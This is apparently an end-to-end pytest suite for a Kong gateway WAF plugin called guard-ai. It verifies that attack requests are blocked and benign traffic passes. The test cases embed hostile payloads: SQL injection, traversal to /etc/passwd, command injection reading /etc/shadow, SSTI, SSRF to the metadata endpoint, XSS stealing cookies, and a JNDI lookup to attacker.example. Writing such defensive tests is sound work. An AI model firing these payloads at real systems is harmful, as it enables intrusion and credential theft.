"""guard-ai end to end: real HTTP through Debian's nginx running the unchanged plugin (via localgw's Kong
PDK layer), LuaJIT FFI into the freshly built libguard.so, and the echo upstream behind it."""

import json
import os
import urllib.parse

import pytest

from harness import REPO, start_gateway

BUILD = os.environ.get("GUARD_BUILD_DIR", os.path.join(REPO, "build"))


def config(echo_url, block=None, monitor=None):
    plugin_block = {"name": "guard-ai", "config": block or {}}
    plugin_monitor = {"name": "guard-ai", "config": dict(monitor or {}, mode="monitor")}
    return {
        "_format_version": "3.0",
        "services": [{
            "name": "echo",
            "url": echo_url,
            "routes": [
                {"name": "api", "paths": ["/api"], "plugins": [plugin_block]},
                {"name": "monitored", "paths": ["/monitored"], "plugins": [plugin_monitor]},
                {"name": "open", "paths": ["/open"]},
                {"name": "wiki", "paths": ["/wiki"], "plugins": [{"name": "guard-ai", "config": {
                    "exclusions": [{"targets": ["args:html"], "paths": ["/wiki/pages/*"]}]}}]},
            ],
        }],
    }


@pytest.fixture(scope="module")
def gw(tmp_path_factory):
    # One gateway (4 workers) for the module: starting nginx per test would dominate the run time.
    g = start_gateway(lambda echo: config(echo), tmp_path_factory.mktemp("guard-ai"), workers=4, cpaths=(BUILD,))
    yield g
    g.stop()
    assert not g.alive()


def q(s):
    return urllib.parse.quote(s, safe="")


def assert_blocked(r, category):
    assert r.status == 403, r
    assert r.header("content-type", "").startswith("application/json")
    body = r.json()
    assert body["message"] == "Request blocked by Kong Guard AI"
    assert body["category"] == category
    assert len(body["incident_id"]) == 32
    assert r.header("x-guard-incident-id") == body["incident_id"]
    assert r.header("x-guard-action") == "block"


@pytest.mark.parametrize("path,category", [
    ("/api/search?q=" + q("1' UNION SELECT username, password FROM users--"), "sqli"),
    ("/api/items?id=" + q("1 or 1=1"), "sqli"),
    ("/api/files?name=" + q("../../../../etc/passwd"), "traversal"),
    ("/api/ping?host=" + q("127.0.0.1; cat /etc/shadow"), "cmdi"),
    ("/api/render?tpl=" + q("{{ config.__class__.__init__.__globals__ }}"), "ssti"),
    ("/api/fetch?url=" + q("http://169.254.169.254/latest/meta-data/"), "ssrf"),
    ("/api/search?q=" + q("<svg/onload=alert(1)>"), "xss"),
])
def test_attacks_in_the_query_are_blocked(gw, path, category):
    assert_blocked(gw.proxy("GET", path), category)


def test_attacks_in_headers_are_blocked(gw):
    assert_blocked(gw.proxy("GET", "/api/", headers={"User-Agent": "${jndi:ldap://attacker.example/a}"}), "jndi")
    assert_blocked(gw.proxy("GET", "/api/", headers={"User-Agent": "sqlmap/1.7.2#stable (https://sqlmap.org)"}),
                   "scanner")
    assert_blocked(gw.proxy("GET", "/api/", headers={"Cookie": "session=abc; pref=" + q("<script>alert(1)</script>")}),
                   "xss")


def test_attacks_in_bodies_are_blocked(gw):
    body = json.dumps({"post": {"title": "hi", "tags": ["a", "<script>document.cookie</script>"]}}).encode()
    assert_blocked(gw.proxy("POST", "/api/posts", body=body, headers={"Content-Type": "application/json"}), "xss")
    form = b"user=admin&pass=" + q("' OR '1'='1' -- ").encode()
    assert_blocked(gw.proxy("POST", "/api/login", body=form,
                            headers={"Content-Type": "application/x-www-form-urlencoded"}), "sqli")


def test_benign_requests_reach_the_upstream_intact(gw):
    body = json.dumps({
        "name": "Miles O'Brien", "email": "miles.obrien@example.com",
        "bio": "Select a plan from the list below; 1=1 is true in maths & so is 2>1.",
        "website": "https://example.com/about?ref=home", "price": 12.5, "tags": ["kong", "api"],
    }).encode()
    r = gw.proxy("POST", "/api/users?page=2&sort=-created_at", body=body,
                 headers={"Content-Type": "application/json", "Accept-Language": "en-GB,en;q=0.8",
                          "User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0"})
    assert r.status == 200, r
    echoed = r.json()
    assert echoed["method"] == "POST"
    assert echoed["body"] == body.decode()
    assert "page=2" in echoed["query"]
    assert r.header("x-guard-action") == "allow"
    assert r.header("x-guard-score") == "0"


def test_a_large_benign_body_passes_byte_exact(gw):
    body = (b'{"data":"' + b"abcdefghij" * 20000 + b'"}')
    r = gw.proxy("POST", "/api/upload", body=body, headers={"Content-Type": "application/json"})
    assert r.status == 200, r
    assert r.json()["body"].encode() == body
    # 200 KB is past max_body_bytes (64 KiB): inspected in part, and the response says so.
    assert r.header("x-guard-body-inspected") == "partial"


def test_monitor_mode_lets_attacks_through_and_marks_them(gw):
    r = gw.proxy("GET", "/monitored/files?name=" + q("../../etc/passwd"))
    assert r.status == 200, r
    assert r.header("x-guard-action") == "monitor"
    assert len(r.header("x-guard-incident-id")) == 32
    assert "monitored request (not blocked): incident=" + r.header("x-guard-incident-id") in gw.error_log()


def test_routes_without_the_plugin_are_not_inspected(gw):
    r = gw.proxy("GET", "/open/?q=" + q("1' UNION SELECT 1--"))
    assert r.status == 200
    assert r.header("x-guard-action") is None


def test_route_exclusions_are_per_field_and_path(gw):
    xss = q("<script>alert(1)</script>")
    assert gw.proxy("GET", "/wiki/pages/7?html=" + xss).status == 200      # excluded field on its path
    assert_blocked(gw.proxy("GET", "/wiki/pages/7?title=" + xss), "xss")   # another field
    assert_blocked(gw.proxy("GET", "/wiki/search?html=" + xss), "xss")     # another path


def test_every_worker_blocks(gw):
    # 4 workers, 40 requests on fresh connections: any worker without a working engine would let one through.
    statuses = {gw.proxy("GET", "/api/?id=" + q("1' or '1'='1")).status for _ in range(40)}
    assert statuses == {403}


def test_invalid_plugin_config_is_a_clear_error(localgw_start_error, gw):
    err = localgw_start_error(lambda echo: config(echo, block={"mode": "blok"}), cpaths=(BUILD,))
    assert "config.mode: expected one of: block, monitor" in err.message

    r = gw.admin("POST", "/schemas/plugins/validate",
                 body=json.dumps({"name": "guard-ai", "config": {"paranoia_level": 9}}).encode(),
                 headers={"Content-Type": "application/json"})
    assert r.status == 400
    assert r.json()["fields"]["config"]["paranoia_level"] == "value should be between 1 and 4"

    r = gw.admin("POST", "/schemas/plugins/validate",
                 body=json.dumps({"name": "guard-ai", "config": {"paranoia_level": 2}}).encode(),
                 headers={"Content-Type": "application/json"})
    assert r.status == 200
